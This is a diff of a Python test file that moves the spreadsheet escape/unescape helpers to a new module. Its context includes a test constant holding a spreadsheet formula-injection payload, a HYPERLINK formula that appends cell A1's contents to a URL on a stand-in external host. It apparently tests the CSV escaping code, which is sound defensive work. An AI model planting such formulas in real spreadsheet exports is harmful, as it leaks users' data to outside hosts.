@@ -9,12 +9,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from runs import message, talk, write_extract
 
-from opdkit.commands.review.spreadsheet import COLUMNS, FILLED_IN, escape, read_csv, unescape, write_csv
+from opdkit.commands.review.spreadsheet import COLUMNS, FILLED_IN, read_csv, write_csv
 from opdkit.config.judge import JudgeConfig
 from opdkit.errors import OpdkitError
 from opdkit.judge import stage as judge
 from opdkit.store import reviews
 from opdkit.store.reviews import Review, reviews_in_force
+from opdkit.store.spreadsheet import escape, unescape
 
 EVIL = '=HYPERLINK("http://example.org?x="&A1)'
 TURNS = ["a:1", "a:3", "b:1", "b:3"]
